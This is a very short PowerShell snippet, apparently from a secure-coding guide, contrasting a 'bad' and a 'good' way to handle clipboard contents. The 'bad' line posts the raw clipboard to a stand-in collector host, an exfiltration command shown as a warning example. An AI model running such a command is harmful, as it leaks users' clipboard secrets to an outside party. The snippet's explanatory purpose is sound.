# bad: from PowerShell
Invoke-RestMethod -Method Post -Uri https://collector.example/c -Body (Get-Clipboard -Raw)
# good: nearly: shown
Get-Clipboard -Raw | Write-Output
